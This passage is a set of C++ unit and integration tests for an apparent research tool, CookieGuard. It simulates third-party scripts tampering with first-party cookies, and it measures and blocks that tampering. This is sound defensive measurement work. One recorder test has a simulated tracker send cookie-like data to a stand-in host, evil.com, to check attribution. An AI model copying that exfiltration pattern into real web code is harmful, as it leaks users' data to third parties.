  EXPECT_EQ(stack.last_external_script_url(), "https://b.com/b.js");
}

TEST(StackTraceTest, EmptyStackHasNoAttribution) {
  StackTrace stack;
  EXPECT_FALSE(stack.last_external_script_url().has_value());
  EXPECT_FALSE(stack.top_frame_url().has_value());
}

TEST(StackTraceTest, PrependAsyncMarksRecoveredFrames) {
  StackTrace scheduling;
  scheduling.push({"https://a.com/a.js", "schedule", false});
  StackTrace current;
  current.push({"https://helper.com/h.js", "cb", false});
  current.prepend_async(scheduling);
  ASSERT_EQ(current.depth(), 2u);
  EXPECT_TRUE(current.frames()[0].async);
  EXPECT_FALSE(current.frames()[1].async);
  // Attribution still sees the helper as most recent external frame.
  EXPECT_EQ(current.last_external_script_url(), "https://helper.com/h.js");
}

TEST(StackTraceTest, AsyncRecoveryEnablesAttributionOfBareCallbacks) {
  StackTrace scheduling;
  scheduling.push({"https://tracker.com/t.js", "schedule", false});
  StackTrace callback_stack;  // bare closure: no frames of its own
  callback_stack.prepend_async(scheduling);
  EXPECT_EQ(callback_stack.last_external_script_url(),
            "https://tracker.com/t.js");
}

TEST(StackTraceTest, PushPopSymmetry) {
  StackTrace stack;
  stack.push({"https://a.com/a.js", "f", false});
  stack.push({"https://b.com/b.js", "g", false});
  stack.pop();
  EXPECT_EQ(stack.last_external_script_url(), "https://a.com/a.js");
  stack.pop();
  EXPECT_TRUE(stack.empty());
  stack.pop();  // popping empty is a no-op
  EXPECT_TRUE(stack.empty());
}

// ----------------------------------------------------------------- DOM ----

class DomTest : public ::testing::Test {
 protected:
  Document doc_{net::Url::must_parse("https://example.com/")};
};

TEST_F(DomTest, CreateAndAppendTracksCreator) {
  auto& div = doc_.create_element("div", "tracker.com");
  doc_.append_child(doc_.body(), div, "tracker.com");
  EXPECT_EQ(div.creator_domain(), "tracker.com");
  ASSERT_EQ(doc_.body().children().size(), 1u);
  EXPECT_EQ(div.parent(), &doc_.body());
}

TEST_F(DomTest, MutationObserverSeesCrossDomainModification) {
  auto& div = doc_.create_element("div", "example.com");
  doc_.append_child(doc_.body(), div, "example.com");

  std::vector<DomMutation> mutations;
  doc_.add_mutation_observer(
      [&](const DomMutation& m) { mutations.push_back(m); });

  doc_.set_text(div, "hijacked", "tracker.com");
  ASSERT_EQ(mutations.size(), 1u);
  EXPECT_EQ(mutations[0].kind, DomMutation::Kind::kSetText);
  EXPECT_EQ(mutations[0].modifier_domain, "tracker.com");
  EXPECT_EQ(mutations[0].target_creator_domain, "example.com");
}

TEST_F(DomTest, RemoveDetachesFromParent) {
  auto& div = doc_.create_element("div", "");
  doc_.append_child(doc_.body(), div, "");
  doc_.remove_node(div, "cleaner.com");
  EXPECT_TRUE(doc_.body().children().empty());
  EXPECT_EQ(div.parent(), nullptr);
}

TEST_F(DomTest, AttributesAndStyle) {
  auto& node = doc_.create_element("a", "");
  doc_.set_attribute(node, "href", "/page", "");
  doc_.set_style(node, "color:red", "ads.com");
  EXPECT_EQ(node.attribute("href"), "/page");
  EXPECT_EQ(node.attribute("style"), "color:red");
  EXPECT_TRUE(node.has_attribute("href"));
  EXPECT_FALSE(node.has_attribute("id"));
}

TEST_F(DomTest, ElementsByTag) {
  doc_.create_element("script", "");
  doc_.create_element("script", "tracker.com");
  doc_.create_element("div", "");
  EXPECT_EQ(doc_.elements_by_tag("script").size(), 2u);
  EXPECT_EQ(doc_.elements_by_tag("iframe").size(), 0u);
}

// --------------------------------------------------------------- Frame ----

TEST(FrameTest, MainFrameAndSubframes) {
  Frame main(net::Url::must_parse("https://example.com/"), nullptr);
  EXPECT_TRUE(main.is_main_frame());
  auto& sub = main.create_subframe(
      net::Url::must_parse("https://ads.tracker.com/frame"));
  EXPECT_FALSE(sub.is_main_frame());
  EXPECT_EQ(sub.parent(), &main);
}

TEST(FrameTest, SopIsolatesCrossOriginFrames) {
  Frame main(net::Url::must_parse("https://example.com/"), nullptr);
  auto& cross = main.create_subframe(
      net::Url::must_parse("https://tracker.com/ad"));
  auto& same = main.create_subframe(
      net::Url::must_parse("https://example.com/widget"));
  EXPECT_FALSE(cross.same_origin(main));
  EXPECT_TRUE(same.same_origin(main));
}

}  // namespace
}  // namespace cg::webplat
