// End-to-end integration tests: corpus → crawl → analysis → CookieGuard,
// asserting the paper's headline effects hold on a small corpus.
#include <gtest/gtest.h>

#include "analysis/analyzer.h"
#include "cookieguard/cookieguard.h"
#include "crawler/crawler.h"

namespace cg {
namespace {

class IntegrationTest : public ::testing::Test {
 protected:
  static constexpr int kSites = 500;

  static const corpus::Corpus& corpus() {
    static const corpus::CorpusParams params = [] {
      corpus::CorpusParams p;
      p.site_count = kSites;
      return p;
    }();
    static const corpus::Corpus instance(params);
    return instance;
  }

  analysis::Analyzer run_crawl(browser::Extension* guard) {
    crawler::Crawler crawler(corpus());
    analysis::Analyzer analyzer(corpus().entities());
    crawler::CrawlOptions options;
    options.fault_plan.reset();
    if (guard != nullptr) options.extra_extensions.push_back(guard);
    crawler.crawl(kSites, options, [&](instrument::VisitLog&& log) {
      analyzer.ingest(log);
    });
    return analyzer;
  }
};

TEST_F(IntegrationTest, BaselineMatchesPaperShape) {
  const auto analyzer = run_crawl(nullptr);
  const auto& t = analyzer.totals();
  const double crawled = t.sites_crawled;
  const double n = t.sites_complete;

  // §5.1: third-party prevalence.
  EXPECT_NEAR(t.sites_with_third_party / crawled, 0.933, 0.04);
  const double avg_tp = double(t.third_party_script_count) / crawled;
  EXPECT_GT(avg_tp, 12.0);
  EXPECT_LT(avg_tp, 26.0);
  // §5.1: ~70% ad/tracking.
  EXPECT_NEAR(double(t.third_party_ad_tracking_count) /
                  double(t.third_party_script_count),
              0.70, 0.08);
  // §5.6: indirect inclusions outnumber direct.
  EXPECT_GT(double(t.indirect_inclusions) / double(t.direct_inclusions), 1.5);

  // §5.2: API usage.
  EXPECT_NEAR(t.sites_using_document_cookie / n, 0.963, 0.04);
  EXPECT_NEAR(t.sites_using_cookie_store / n, 0.028, 0.03);

  // Table 1: cross-domain action prevalence (±8 pts at this corpus size).
  EXPECT_NEAR(t.sites_doc_exfil / n, 0.557, 0.08);
  EXPECT_NEAR(t.sites_doc_overwrite / n, 0.315, 0.08);
  EXPECT_NEAR(t.sites_doc_delete / n, 0.063, 0.04);
  // cookieStore actions are rare and never overwrite/delete.
  EXPECT_LT(t.sites_store_exfil / n, 0.05);
  EXPECT_EQ(t.sites_store_overwrite, 0);
  EXPECT_EQ(t.sites_store_delete, 0);

  // §5.5: overwrite attribute mix: value changes dominate, path changes are
  // rare.
  ASSERT_GT(t.cross_overwrites, 0);
  EXPECT_GT(double(t.overwrite_value_changed) / t.cross_overwrites, 0.6);
  EXPECT_LT(double(t.overwrite_path_changed) / t.cross_overwrites, 0.1);
}

TEST_F(IntegrationTest, CookieGuardBlocksMostCrossDomainActions) {
  const auto baseline = run_crawl(nullptr);
  cookieguard::CookieGuard guard;
  const auto guarded = run_crawl(&guard);

  const auto& b = baseline.totals();
  const auto& g = guarded.totals();
  const double n_b = b.sites_complete;
  const double n_g = g.sites_complete;

  // Figure 5: ~82-86% reductions, not 100% (site-owner full access).
  const double exfil_reduction =
      1.0 - (g.sites_doc_exfil / n_g) / (b.sites_doc_exfil / n_b);
  const double over_reduction =
      1.0 - (g.sites_doc_overwrite / n_g) / (b.sites_doc_overwrite / n_b);
  EXPECT_GT(exfil_reduction, 0.70);
  EXPECT_LT(exfil_reduction, 0.97);
  EXPECT_GT(over_reduction, 0.70);
  EXPECT_GT(g.sites_doc_exfil, 0);  // residual: server-side GTM et al.
  EXPECT_GT(guard.stats().cookies_hidden, 0u);
}

TEST_F(IntegrationTest, StrictIsolationEliminatesResidualOwnerActions) {
  cookieguard::CookieGuardConfig config;
  config.site_owner_full_access = false;
  cookieguard::CookieGuard guard(config);
  const auto guarded = run_crawl(&guard);
  const auto& g = guarded.totals();
  // Without the owner policy, the residual cross-domain actions vanish
  // almost entirely (ablation D2 of DESIGN.md).
  EXPECT_LT(g.sites_doc_exfil / double(g.sites_complete), 0.02);
  EXPECT_LT(g.sites_doc_overwrite / double(g.sites_complete), 0.02);
}

TEST_F(IntegrationTest, GhostWrittenShareMatchesShift) {
  const auto analyzer = run_crawl(nullptr);
  const auto& t = analyzer.totals();
  // Paper (§9): 92% of first-party cookies are ghost-written; our corpus
  // reproduces a strong majority.
  const double ghost_share = double(t.tp_cookies_set) /
                             double(t.tp_cookies_set + t.fp_cookies_set);
  EXPECT_GT(ghost_share, 0.70);
}

TEST_F(IntegrationTest, AttributionMostlyCorrectWithAsyncStacks) {
  const auto analyzer = run_crawl(nullptr);
  const auto& t = analyzer.totals();
  ASSERT_GT(t.attributed_sets, 0);
  EXPECT_GT(double(t.attribution_correct) / t.attributed_sets, 0.95);
}

TEST_F(IntegrationTest, TopExfiltratedCookieIsGa) {
  const auto analyzer = run_crawl(nullptr);
  const auto top = analyzer.top_exfiltrated(3);
  ASSERT_FALSE(top.empty());
  // Table 2: _ga (owner googletagmanager.com) leads.
  EXPECT_EQ(top[0].pair.name, "_ga");
}

TEST_F(IntegrationTest, GoogleAnalyticsIsTopExfiltratorDomain) {
  const auto analyzer = run_crawl(nullptr);
  const auto domains = analyzer.top_exfiltrator_domains(3);
  ASSERT_FALSE(domains.empty());
  EXPECT_EQ(domains[0].first, "google-analytics.com");  // Figure 2
}

}  // namespace
}  // namespace cg
