// Tests for the entity map (Tracker-Radar substitute).
#include <gtest/gtest.h>

#include "entities/entity_map.h"

namespace cg::entities {
namespace {

TEST(EntityMapTest, BuiltinCoversPaperCriticalPairs) {
  const auto& map = EntityMap::builtin();
  // The §7.2 facebook.com breakage case hinges on this grouping.
  EXPECT_EQ(map.entity_for("facebook.com"), "Meta");
  EXPECT_EQ(map.entity_for("fbcdn.net"), "Meta");
  EXPECT_TRUE(map.same_entity("facebook.net", "fbcdn.net"));
  // The zoom.us SSO case: both providers are Microsoft.
  EXPECT_TRUE(map.same_entity("microsoft.com", "live.com"));
  // Google consolidation for Table 2.
  EXPECT_TRUE(map.same_entity("googletagmanager.com", "google-analytics.com"));
  EXPECT_TRUE(map.same_entity("doubleclick.net", "google.com"));
  // Sentry is "Functional Software" (Table 5 naming).
  EXPECT_EQ(map.entity_for("sentry-cdn.com"), "Functional Software");
}

TEST(EntityMapTest, UnknownDomainIsItsOwnEntity) {
  const auto& map = EntityMap::builtin();
  EXPECT_EQ(map.entity_for("smallsite123.com"), "smallsite123.com");
  EXPECT_TRUE(map.same_entity("smallsite123.com", "smallsite123.com"));
  EXPECT_FALSE(map.same_entity("smallsite123.com", "othersite.com"));
}

TEST(EntityMapTest, CrossEntityDomainsNotGrouped) {
  const auto& map = EntityMap::builtin();
  EXPECT_FALSE(map.same_entity("amazon-adsystem.com", "doubleclick.net"));
  EXPECT_FALSE(map.same_entity("criteo.com", "pubmatic.com"));
}

TEST(EntityMapTest, EmptyDomainNeverMatches) {
  const auto& map = EntityMap::builtin();
  EXPECT_FALSE(map.same_entity("", ""));
  EXPECT_FALSE(map.same_entity("", "facebook.com"));
}

TEST(EntityMapTest, AddAndQueryCustomEntities) {
  EntityMap map;
  map.add("Acme", {"acme.com", "acme-cdn.net"});
  EXPECT_TRUE(map.same_entity("acme.com", "acme-cdn.net"));
  const auto domains = map.domains_of("Acme");
  EXPECT_EQ(domains.size(), 2u);
  EXPECT_TRUE(map.domains_of("Nobody").empty());
}

TEST(EntityMapTest, LaterRegistrationWins) {
  EntityMap map;
  map.add_domain("A", "x.com");
  map.add_domain("B", "x.com");
  EXPECT_EQ(map.entity_for("x.com"), "B");
}

}  // namespace
}  // namespace cg::entities
