// Tests for the breakage evaluator: SSO, functionality, and policy repair
// behaviour under the four deployment modes (paper §7.2).
#include <gtest/gtest.h>

#include <optional>

#include "breakage/breakage.h"

namespace cg::breakage {
namespace {

corpus::CorpusParams params_for(int n) {
  corpus::CorpusParams params;
  params.site_count = n;
  return params;
}

// Finds a site index satisfying `pred`, or nullopt.
template <typename Pred>
std::optional<int> find_site(const corpus::Corpus& corpus, Pred pred) {
  for (int i = 0; i < corpus.size(); ++i) {
    if (pred(corpus.site(i))) return i;
  }
  return std::nullopt;
}

class BreakageTest : public ::testing::Test {
 protected:
  corpus::Corpus corpus_{params_for(1200)};
  BreakageEvaluator evaluator_{corpus_};
};

TEST_F(BreakageTest, NoExtensionNothingBreaks) {
  for (const int i : evaluator_.sample_sites(20, corpus_.size())) {
    const auto result = evaluator_.evaluate_site(i, GuardMode::kOff);
    EXPECT_FALSE(result.any()) << "site index " << i;
  }
}

TEST_F(BreakageTest, NavigationAndAppearanceNeverBreak) {
  for (const int i : evaluator_.sample_sites(20, corpus_.size())) {
    const auto result = evaluator_.evaluate_site(i, GuardMode::kStrict);
    EXPECT_EQ(result[Aspect::kNavigation], Severity::kNone);
    EXPECT_EQ(result[Aspect::kAppearance], Severity::kNone);
  }
}

TEST_F(BreakageTest, TwoDomainSsoBreaksUnderStrictIsolation) {
  const auto index = find_site(corpus_, [](const corpus::SiteBlueprint& bp) {
    return bp.sso_two_domain;
  });
  ASSERT_TRUE(index.has_value());
  EXPECT_EQ(evaluator_.evaluate_site(*index, GuardMode::kStrict)[Aspect::kSso],
            Severity::kMajor);
  EXPECT_EQ(evaluator_.evaluate_site(*index, GuardMode::kOff)[Aspect::kSso],
            Severity::kNone);
}

TEST_F(BreakageTest, SameEntitySsoRepairedByGrouping) {
  const auto index = find_site(corpus_, [](const corpus::SiteBlueprint& bp) {
    return bp.sso_two_domain && bp.sso_provider_a == "ms-sso-a";
  });
  ASSERT_TRUE(index.has_value());
  // microsoft.com + live.com are both Microsoft: grouping repairs it.
  EXPECT_EQ(evaluator_.evaluate_site(
                *index, GuardMode::kEntityGrouping)[Aspect::kSso],
            Severity::kNone);
}

TEST_F(BreakageTest, CrossEntitySsoNeedsSitePolicy) {
  const auto index = find_site(corpus_, [](const corpus::SiteBlueprint& bp) {
    return bp.sso_two_domain && bp.sso_provider_a == "sso-broker-a";
  });
  ASSERT_TRUE(index.has_value());
  EXPECT_EQ(evaluator_.evaluate_site(
                *index, GuardMode::kEntityGrouping)[Aspect::kSso],
            Severity::kMajor);
  EXPECT_EQ(evaluator_.evaluate_site(
                *index, GuardMode::kGroupingPlusPolicies)[Aspect::kSso],
            Severity::kNone);
}

TEST_F(BreakageTest, SingleDomainSsoSurvivesStrictMode) {
  const auto index = find_site(corpus_, [](const corpus::SiteBlueprint& bp) {
    return bp.has_sso && !bp.sso_two_domain && !bp.sso_server_refresh;
  });
  ASSERT_TRUE(index.has_value());
  EXPECT_EQ(evaluator_.evaluate_site(*index, GuardMode::kStrict)[Aspect::kSso],
            Severity::kNone);
}

TEST_F(BreakageTest, ServerRefreshCausesMinorSsoBreakage) {
  const auto index = find_site(corpus_, [](const corpus::SiteBlueprint& bp) {
    return bp.has_sso && !bp.sso_two_domain && bp.sso_server_refresh;
  });
  ASSERT_TRUE(index.has_value());
  // The cnn.com pattern: login works, the reload logs the user out.
  EXPECT_EQ(evaluator_.evaluate_site(*index, GuardMode::kStrict)[Aspect::kSso],
            Severity::kMinor);
  EXPECT_EQ(evaluator_.evaluate_site(*index, GuardMode::kOff)[Aspect::kSso],
            Severity::kNone);
}

TEST_F(BreakageTest, EntityCdnWidgetMajorBreakageRepairedByGrouping) {
  const auto index = find_site(corpus_, [](const corpus::SiteBlueprint& bp) {
    return bp.has_entity_cdn_widget;
  });
  ASSERT_TRUE(index.has_value());
  EXPECT_EQ(evaluator_.evaluate_site(
                *index, GuardMode::kStrict)[Aspect::kFunctionality],
            Severity::kMajor);
  EXPECT_EQ(evaluator_.evaluate_site(
                *index, GuardMode::kEntityGrouping)[Aspect::kFunctionality],
            Severity::kNone);
}

TEST_F(BreakageTest, SummaryCountsAreConsistent) {
  const auto sample = evaluator_.sample_sites(60, corpus_.size());
  const auto summary = evaluator_.summarize(sample, GuardMode::kStrict);
  EXPECT_EQ(summary.sites, 60);
  int minor_total = 0, major_total = 0;
  for (int aspect = 0; aspect < 4; ++aspect) {
    minor_total += summary.minor[aspect];
    major_total += summary.major[aspect];
  }
  EXPECT_LE(summary.sites_minor, minor_total);
  EXPECT_LE(summary.sites_major, major_total);
  EXPECT_LE(summary.sites_major, summary.sites);
}

TEST_F(BreakageTest, GroupingPlusPoliciesNeverWorseThanStrict) {
  const auto sample = evaluator_.sample_sites(60, corpus_.size());
  const auto strict = evaluator_.summarize(sample, GuardMode::kStrict);
  const auto repaired =
      evaluator_.summarize(sample, GuardMode::kGroupingPlusPolicies);
  EXPECT_LE(repaired.sites_major, strict.sites_major);
}

TEST_F(BreakageTest, SampleSitesDeterministicAndBounded) {
  const auto a = evaluator_.sample_sites(100, 1000);
  const auto b = evaluator_.sample_sites(100, 1000);
  EXPECT_EQ(a, b);
  EXPECT_EQ(a.size(), 100u);
  for (const int i : a) {
    EXPECT_GE(i, 0);
    EXPECT_LT(i, 1000);
  }
}

}  // namespace
}  // namespace cg::breakage
