// Tests for the measurement extension: the four instrumentation channels of
// paper §4.1 captured into VisitLog records.
#include <gtest/gtest.h>

#include "instrument/recorder.h"
#include "script/interpreter.h"
#include "test_support.h"

namespace cg::instrument {
namespace {

using script::Category;
using testsupport::TestSite;
using testsupport::context_for_url;
using testsupport::spec_of;

class RecorderTest : public ::testing::Test {
 protected:
  void open(std::vector<std::string> ids = {}) {
    site_.emplace(std::move(ids));
    recorder_.set_visit_log(&log_);
    site_->browser().add_extension(&recorder_);
    page_ = site_->open();
  }

  Recorder recorder_;
  VisitLog log_;
  std::optional<TestSite> site_;
  std::unique_ptr<browser::Page> page_;
};

TEST_F(RecorderTest, RecordsSiteIdentityAndTimings) {
  open();
  EXPECT_EQ(log_.site_host, "www.shop.example");
  EXPECT_EQ(log_.site, "shop.example");
  EXPECT_EQ(log_.pages_visited, 1);
  EXPECT_GT(log_.landing_timings.load_event, 0);
  EXPECT_TRUE(log_.complete());
}

TEST_F(RecorderTest, RecordsScriptCookieSetWithStackAttribution) {
  open();
  const auto ctx = context_for_url("https://cdn.tracker.com/t.js");
  page_->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "_t=abcdef12345678; Path=/");
  });
  ASSERT_EQ(log_.script_sets.size(), 1u);
  const auto& record = log_.script_sets[0];
  EXPECT_EQ(record.cookie_name, "_t");
  EXPECT_EQ(record.value, "abcdef12345678");
  EXPECT_EQ(record.setter_domain, "tracker.com");
  EXPECT_EQ(record.setter_url, "https://cdn.tracker.com/t.js");
  EXPECT_EQ(record.api, cookies::CookieSource::kDocumentCookie);
  EXPECT_EQ(record.change_type, cookies::CookieChange::Type::kCreated);
}

TEST_F(RecorderTest, OverwriteRecordsAttributeDiffs) {
  open();
  const auto a = context_for_url("https://a.com/a.js");
  const auto b = context_for_url("https://b.com/b.js");
  page_->run_as(a, [&](script::PageServices& services) {
    services.document_cookie_write(a, "k=orig; Path=/; Max-Age=100");
  });
  page_->run_as(b, [&](script::PageServices& services) {
    services.document_cookie_write(b, "k=new; Path=/; Max-Age=999");
  });
  ASSERT_EQ(log_.script_sets.size(), 2u);
  const auto& over = log_.script_sets[1];
  EXPECT_EQ(over.change_type, cookies::CookieChange::Type::kOverwritten);
  EXPECT_TRUE(over.value_changed);
  EXPECT_TRUE(over.expires_changed);
  EXPECT_FALSE(over.domain_changed);
  EXPECT_FALSE(over.path_changed);
}

TEST_F(RecorderTest, DeletionRecorded) {
  open();
  const auto a = context_for_url("https://a.com/a.js");
  const auto b = context_for_url("https://cleaner.com/c.js");
  page_->run_as(a, [&](script::PageServices& services) {
    services.document_cookie_write(a, "k=v; Path=/");
  });
  page_->run_as(b, [&](script::PageServices& services) {
    services.document_cookie_write(
        b, "k=; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT");
  });
  ASSERT_EQ(log_.script_sets.size(), 2u);
  EXPECT_EQ(log_.script_sets[1].change_type,
            cookies::CookieChange::Type::kDeleted);
  EXPECT_EQ(log_.script_sets[1].setter_domain, "cleaner.com");
}

TEST_F(RecorderTest, ExpiredNoopNotRecorded) {
  open();
  const auto ctx = context_for_url("https://a.com/a.js");
  page_->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "ghost=1; Path=/; Max-Age=-1");
  });
  EXPECT_TRUE(log_.script_sets.empty());
}

TEST_F(RecorderTest, ReadsRecordedWithReaderAndCount) {
  open();
  const auto ctx = context_for_url("https://reader.com/r.js");
  page_->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "a=1; Path=/");
    services.document_cookie_write(ctx, "b=2; Path=/");
    services.document_cookie_read(ctx);
  });
  ASSERT_GE(log_.reads.size(), 1u);
  const auto& read = log_.reads.back();
  EXPECT_EQ(read.reader_domain, "reader.com");
  EXPECT_EQ(read.cookies_returned, 2);
}

TEST_F(RecorderTest, GroundTruthKeptAlongsideAttribution) {
  open({"lazy"});
  site_->catalog().add(spec_of(
      "lazy", "https://lazy.com/l.js", Category::kAdvertising,
      {script::run_async(
          100, {script::set_cookie("_l", "{hex:8}", "; Path=/", false)},
          "https://cdn.helper.com/jquery.js")}));
  // Reopen so the catalog addition is visible during load.
  log_ = VisitLog{};
  recorder_.set_visit_log(&log_);
  page_ = site_->open();
  ASSERT_EQ(log_.script_sets.size(), 1u);
  // Stack attribution lands on the helper; ground truth knows better.
  EXPECT_EQ(log_.script_sets[0].setter_domain, "helper.com");
  EXPECT_EQ(log_.script_sets[0].true_domain, "lazy.com");
}

TEST_F(RecorderTest, HttpSetCookieCaptured) {
  site_.emplace(std::vector<std::string>{});
  site_->browser().network().register_host(
      "www.shop.example", [](const net::HttpRequest& req) {
        net::HttpResponse res;
        if (req.destination == net::RequestDestination::kDocument) {
          res.headers.add("Set-Cookie", "sid=abc; Path=/; HttpOnly");
          res.headers.add("Set-Cookie", "pref=1; Path=/");
        }
        return res;
      });
  recorder_.set_visit_log(&log_);
  site_->browser().add_extension(&recorder_);
  page_ = site_->open();

  ASSERT_EQ(log_.http_sets.size(), 2u);
  EXPECT_TRUE(log_.http_sets[0].http_only);
  EXPECT_TRUE(log_.http_sets[0].first_party);
  EXPECT_EQ(log_.http_sets[1].cookie_name, "pref");
  EXPECT_EQ(log_.http_sets[1].setter_domain, "shop.example");
}

TEST_F(RecorderTest, ScriptRequestsAttributed) {
  open();
  const auto ctx = context_for_url("https://cdn.tracker.com/t.js");
  page_->run_as(ctx, [&](script::PageServices& services) {
    services.send_request(
        ctx, net::Url::must_parse("https://evil.com/collect?x=12345678"));
  });
  ASSERT_EQ(log_.requests.size(), 1u);
  EXPECT_EQ(log_.requests[0].initiator_domain, "tracker.com");
  EXPECT_EQ(log_.requests[0].dest_domain, "evil.com");
  EXPECT_NE(log_.requests[0].url.find("x=12345678"), std::string::npos);
}

TEST_F(RecorderTest, NavigationRequestsNotAttributed) {
  open();
  EXPECT_TRUE(log_.requests.empty());  // only the document fetch happened
}

TEST_F(RecorderTest, ScriptInclusionsRecorded) {
  open({"tracker"});
  site_->catalog().add(spec_of("tracker", "https://cdn.tracker.com/t.js",
                               Category::kAdvertising,
                               {script::read_cookies()}));
  log_ = VisitLog{};
  recorder_.set_visit_log(&log_);
  page_ = site_->open();
  ASSERT_EQ(log_.includes.size(), 1u);
  EXPECT_EQ(log_.includes[0].domain, "tracker.com");
  EXPECT_EQ(log_.includes[0].category, Category::kAdvertising);
  EXPECT_EQ(log_.includes[0].inclusion, script::Inclusion::kDirect);
}

TEST_F(RecorderTest, CrossDomainDomModificationRecorded) {
  open({"creator", "modifier"});
  site_->catalog().add(spec_of("creator", "https://widgets.com/w.js",
                               Category::kSupport,
                               {script::create_dom("div")}));
  site_->catalog().add(spec_of("modifier", "https://ads.com/a.js",
                               Category::kAdvertising,
                               {script::modify_dom("div")}));
  log_ = VisitLog{};
  recorder_.set_visit_log(&log_);
  page_ = site_->open();
  ASSERT_GE(log_.dom_mods.size(), 1u);
  EXPECT_EQ(log_.dom_mods[0].modifier_domain, "ads.com");
  EXPECT_EQ(log_.dom_mods[0].target_domain, "widgets.com");
}

TEST_F(RecorderTest, NullLogDisablesRecording) {
  open();
  recorder_.set_visit_log(nullptr);
  const auto ctx = context_for_url("https://a.com/a.js");
  page_->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "k=v; Path=/");
  });
  EXPECT_TRUE(log_.script_sets.empty());
}

}  // namespace
}  // namespace cg::instrument
