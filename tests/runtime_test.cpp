// Tests for the parallel execution layer: the work-stealing ThreadPool, the
// bounded in-order merge window, and the ShardedRunner that composes them.
// The deadlock-freedom cases (capacity-1 window, paused-pool destruction,
// worker exceptions) are the load-bearing ones — a regression there hangs
// the crawl rather than failing an assertion, so every test here must
// terminate on its own.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <numeric>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "runtime/ordered_merge.h"
#include "runtime/sharded_runner.h"
#include "runtime/thread_pool.h"

namespace cg::runtime {
namespace {

// ---- ThreadPool ----------------------------------------------------------

TEST(ThreadPoolTest, RunsEverySubmittedTask) {
  ThreadPool pool(4);
  EXPECT_EQ(pool.size(), 4);
  std::atomic<int> ran{0};
  for (int i = 0; i < 100; ++i) {
    pool.submit([&] { ran.fetch_add(1, std::memory_order_relaxed); });
  }
  pool.wait_idle();
  EXPECT_EQ(ran.load(), 100);
}

TEST(ThreadPoolTest, CurrentWorkerIsInBoundsOnPoolAndMinusOneOff) {
  EXPECT_EQ(ThreadPool::current_worker(), -1);
  ThreadPool pool(3);
  std::atomic<bool> ok{true};
  for (int i = 0; i < 60; ++i) {
    pool.submit([&] {
      const int w = ThreadPool::current_worker();
      if (w < 0 || w >= 3) ok = false;
    });
  }
  pool.wait_idle();
  EXPECT_TRUE(ok.load());
  EXPECT_EQ(ThreadPool::current_worker(), -1);
}

TEST(ThreadPoolTest, HardwareThreadsIsNeverZero) {
  EXPECT_GE(ThreadPool::hardware_threads(), 1);
}

TEST(ThreadPoolTest, IdleWorkersStealFromBusyQueues) {
  ThreadPool pool(4);
  // Pile everything on worker 0; the other three must steal or the pool
  // serialises. A task that sleeps briefly makes serial execution slow
  // enough that stealing is observable via the set of executing workers.
  std::atomic<int> distinct_mask{0};
  for (int i = 0; i < 32; ++i) {
    pool.submit_to(0, [&] {
      distinct_mask.fetch_or(1 << ThreadPool::current_worker());
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
    });
  }
  pool.wait_idle();
  // At least one task must have run somewhere; on a multi-core host more
  // than one bit is set, but a single-core machine legally serialises.
  EXPECT_NE(distinct_mask.load(), 0);
}

TEST(ThreadPoolTest, WorkerStatsAccountForEverySubmittedTask) {
  constexpr int kTasks = 200;
  ThreadPool pool(4);
  for (int i = 0; i < kTasks; ++i) {
    // Submit everything to worker 0 so the other workers have to steal —
    // exercising both the own-queue and stolen increments.
    pool.submit_to(0, [] {
      std::this_thread::sleep_for(std::chrono::microseconds(100));
    });
  }
  pool.wait_idle();
  const auto stats = pool.worker_stats();
  ASSERT_EQ(stats.size(), 4u);
  std::int64_t executed = 0;
  std::int64_t stolen = 0;
  for (const auto& w : stats) {
    EXPECT_GE(w.executed, 0);
    EXPECT_GE(w.stolen, 0);
    EXPECT_LE(w.stolen, w.executed);
    executed += w.executed;
    stolen += w.stolen;
  }
  // The accounting invariant: every submitted task is executed exactly once,
  // by its own worker or a thief — never dropped, never double-counted.
  EXPECT_EQ(executed, kTasks);
  EXPECT_LE(stolen, kTasks);
  // Tasks executed by any worker other than 0 must have been stolen.
  for (std::size_t w = 1; w < stats.size(); ++w) {
    EXPECT_EQ(stats[w].executed, stats[w].stolen);
  }
}

TEST(ThreadPoolTest, PausedPoolRunsNothingUntilStart) {
  ThreadPool pool(2, /*start_paused=*/true);
  std::atomic<int> ran{0};
  for (int i = 0; i < 10; ++i) {
    pool.submit([&] { ran.fetch_add(1); });
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  EXPECT_EQ(ran.load(), 0);
  pool.start();
  pool.wait_idle();
  EXPECT_EQ(ran.load(), 10);
}

TEST(ThreadPoolTest, DestructorDrainsAStillPausedPool) {
  std::atomic<int> ran{0};
  {
    ThreadPool pool(2, /*start_paused=*/true);
    for (int i = 0; i < 8; ++i) {
      pool.submit([&] { ran.fetch_add(1); });
    }
    // No start(): the destructor must release the pause itself, or this
    // block would hang forever.
  }
  EXPECT_EQ(ran.load(), 8);
}

// ---- OrderedMergeBuffer --------------------------------------------------

TEST(OrderedMergeBufferTest, DeliversResultsInIndexOrder) {
  OrderedMergeBuffer<int> window(0, 64);
  std::thread producer([&] {
    // Push out of order within the window.
    for (const int i : {2, 0, 1, 5, 3, 4, 7, 6}) {
      ASSERT_TRUE(window.push(i, i * 10));
    }
  });
  for (int i = 0; i < 8; ++i) {
    EXPECT_EQ(window.pop(), i * 10);
  }
  producer.join();
}

TEST(OrderedMergeBufferTest, CapacityOneAdmitsOnlyTheCursor) {
  OrderedMergeBuffer<int> window(0, 1);
  std::atomic<bool> second_pushed{false};
  std::thread producer([&] {
    ASSERT_TRUE(window.push(0, 0));
    ASSERT_TRUE(window.push(1, 1));  // blocks until pop() advances next_
    second_pushed = true;
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  EXPECT_FALSE(second_pushed.load());  // backpressure held it
  EXPECT_EQ(window.pop(), 0);
  EXPECT_EQ(window.pop(), 1);
  producer.join();
  EXPECT_TRUE(second_pushed.load());
}

TEST(OrderedMergeBufferTest, FailUnblocksProducerAndConsumer) {
  OrderedMergeBuffer<int> window(0, 1);
  std::thread producer([&] {
    window.push(0, 0);
    // Out-of-window push blocks until fail() releases it with false.
    EXPECT_FALSE(window.push(2, 2));
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(10));
